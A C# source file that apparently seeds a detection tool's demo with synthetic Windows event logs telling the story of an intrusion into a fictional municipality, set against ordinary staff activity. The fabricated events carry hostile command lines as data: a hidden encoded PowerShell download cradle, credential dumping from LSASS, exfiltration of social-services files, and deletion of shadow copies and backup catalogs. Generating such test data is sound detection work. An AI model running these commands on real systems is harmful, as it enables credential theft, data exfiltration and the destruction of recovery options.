using System.Globalization;
using System.Security.Cryptography;
using Beredd.Evtx.Writing;
using Beredd.Storage;
using Beredd.Web;
using Microsoft.Extensions.DependencyInjection;

namespace Beredd.Detection.Hunts;

/// <summary>
/// The course of the attack on Ekvalla kommun, as its computers have logged it over the four days up to now: passwords are sprayed at the remote access, one of them is right, and two nights later
/// the attacker has the directory and takes the backups away. The computers are systems of the demo's register.
/// </summary>
internal sealed class DemoLogs(DateTimeOffset now)
{
    private const string Outside = "198.51.100.23", Inside = "10.20.31.87";
    private const string Taken = "k.sandberg", Admin = "adm.lind";
    private const string Cmd = @"C:\Windows\System32\cmd.exe";

    private static readonly string[] Staff =
        ["a.berg", "b.ek", "c.dahl", "e.lund", "f.holm", "g.sten", "h.falk", "i.gren", "j.hav", "l.nord", "m.skog", "n.ask", "o.bjork", "p.alm", "r.kvist", "s.lind", "t.rask", "u.sjo"];

    private static readonly string[] Reached = ["filer", "sql-1", "sql-2", "socialsystem", "omsorgsjournal", "lon", "vm-a", "backup"];

    private static readonly string[] Tools = ["whoami", "ipconfig", "net", "systeminfo", "quser"];

    private static readonly string[] Destroyed = ["backup", "filer", "sql-1", "vm-a"];

    private readonly List<EvtxEvent> events = [];

    /// <summary>Writes the logs, and asks for a hunt in them.</summary>
    public async Task FillAsync(IServiceProvider services, CancellationToken cancellation)
    {
        var options = services.GetRequiredService<ServeOptions>();
        await using var scope = services.CreateAsyncScope();
        var database = scope.ServiceProvider.GetRequiredService<BereddContext>();
        var hunt = new HuntRecord { Id = Guid.CreateVersion7(now), Name = "Servrarna i Ekvalla", AskedBy = "Dana Demo", AskedAt = now, State = HuntState.Waiting };
        var folder = new HuntFolder(options, hunt.Id);
        Directory.CreateDirectory(folder.Logs);
        Ordinary();
        Attack();
        foreach (var log in events.OrderBy(e => e.Time).GroupBy(e => (e.Computer, e.Channel)).OrderBy(g => g.Key.Computer, StringComparer.Ordinal).ThenBy(g => g.Key.Channel, StringComparer.Ordinal))
        {
            var name = folder.NewName($"{log.Key.Computer.Split('.')[0]} {log.Key.Channel.Replace("Microsoft-Windows-", "", StringComparison.Ordinal).Replace("/Operational", "", StringComparison.Ordinal)}.evtx");
            var bytes = Written(log);
            await File.WriteAllBytesAsync(Path.Combine(folder.Logs, name), bytes, cancellation).ConfigureAwait(false);
            hunt.Files.Add(new HuntFile { HuntId = hunt.Id, Place = hunt.Files.Count, Name = name, Bytes = bytes.Length, Sha256 = Convert.ToHexStringLower(SHA256.HashData(bytes)), At = now });
        }
        database.Add(hunt);
        await database.SaveChangesAsync(cancellation).ConfigureAwait(false);
        services.GetRequiredService<HuntRunner>().Wake();
    }

    private static byte[] Written(IEnumerable<EvtxEvent> log)
    {
        using var bytes = new MemoryStream();
        using (var writer = new EvtxWriter(bytes))
        {
            foreach (var one in log)
                writer.Write(one);
        }
        return bytes.ToArray();
    }

    /// <summary>A time so many hours before now; the same to the second for all that is said of it.</summary>
    private DateTimeOffset Ago(double hours, double seconds = 0) => now.AddHours(-hours).AddSeconds(seconds);

    private void Attack()
    {
        // Four nights ago, from outside.
        for (var i = 0; i < Staff.Length; i++)
            events.Add(DemoEvents.LogonFailed("fjarranslutning", Ago(98, i * 21), Staff[i], Outside));
        for (var i = 0; i < 11; i++)
            events.Add(DemoEvents.LogonFailed("fjarranslutning", Ago(97, i * 19), Taken, Outside));
        events.Add(DemoEvents.Logon("fjarranslutning", Ago(97, 260), Taken, Outside, 3));
        // The first evening inside.
        events.Add(DemoEvents.Logon("terminal", Ago(96.5), Taken, Inside, 10));
        foreach (var (tool, i) in Tools.Select((tool, i) => (tool, i)))
            events.Add(DemoEvents.Process("terminal", Ago(96.3, i * 20), Taken, $@"C:\Windows\System32\{tool}.exe", tool, Cmd));
        events.Add(DemoEvents.Process("terminal", Ago(96.2), Taken, @"C:\Windows\System32\nltest.exe", "nltest /domain_trusts /all_trusts", Cmd));
        events.Add(DemoEvents.Process(
            "terminal", Ago(95.9), Taken, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", Cmd));
        events.Add(DemoEvents.LsassRead("terminal", Ago(95.6), Taken, @"C:\Users\Public\m.exe"));
        // Two days ago, with an administrator's account, from server to server.
        for (var i = 0; i < Reached.Length; i++)
        {
            events.Add(DemoEvents.Logon(Reached[i], Ago(50, i * 410), Admin, Inside, i % 2 == 0 ? 10 : 3));
            events.Add(DemoEvents.ServiceInstalled(Reached[i], Ago(50, (i * 410) + 35), i == 1 ? "PSEXESVC" : $"upd{i}", i == 1 ? @"%SystemRoot%\PSEXESVC.exe" : @"%COMSPEC% /c powershell -w hidden -f C:\Windows\Temp\u.ps1"));
        }
        events.Add(DemoEvents.LsassRead("filer", Ago(49), Admin, @"C:\Windows\Temp\u.exe"));
        events.Add(DemoEvents.LsassRead("sql-1", Ago(48.8), Admin, @"C:\Windows\Temp\u.exe"));
        // Last night: the directory, and what is to be sold.
        events.Add(DemoEvents.Replication("ad-1", Ago(26), Admin));
        events.Add(DemoEvents.GroupMemberAdded("ad-1", Ago(25.5), Admin, "svc-print"));
        events.Add(DemoEvents.Process("filer", Ago(24), Admin, @"C:\ProgramData\svchost.exe", @"svchost.exe copy E:\Socialtjänst mega:s --transfers 16 --max-age 2y", Cmd));
        // Tonight: what would bring everything back.
        foreach (var (host, i) in Destroyed.Select((host, i) => (host, i)))
        {
            events.Add(DemoEvents.DefenderOff(host, Ago(3, i * 240)));
            events.Add(DemoEvents.Process(host, Ago(2.8, i * 240), Admin, @"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet", Cmd));
        }
        events.Add(DemoEvents.Process("backup", Ago(2.5), Admin, @"C:\Windows\System32\wbadmin.exe", "wbadmin delete catalog -quiet", Cmd));
        events.Add(DemoEvents.LogCleared("ad-1", Ago(1.2), Admin));
        events.Add(DemoEvents.LogCleared("backup", Ago(1.1), Admin));
    }

    /// <summary>What the same computers log on any day, so that there is something to tell the attack from.</summary>
    private void Ordinary()
    {
        for (var day = 0; day < 5; day++)
        {
            foreach (var (host, h) in Reached.Append("terminal").Append("ad-1").Append("ad-2").Select((host, h) => (host, h)))
            {
                for (var i = 0; i < 12; i++)
                {
                    var time = Ago((day * 24) + 8, (i * 1700) + (h * 61));
                    events.Add(DemoEvents.Logon(host, time, Staff[(i + h + day) % Staff.Length], string.Create(CultureInfo.InvariantCulture, $"10.20.{30 + h}.{20 + i}"), 3));
                    events.Add(DemoEvents.Process(host, time.AddSeconds(40), Staff[(i + day) % Staff.Length], @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WINWORD.EXE /n"));
                }
            }
        }
    }
}
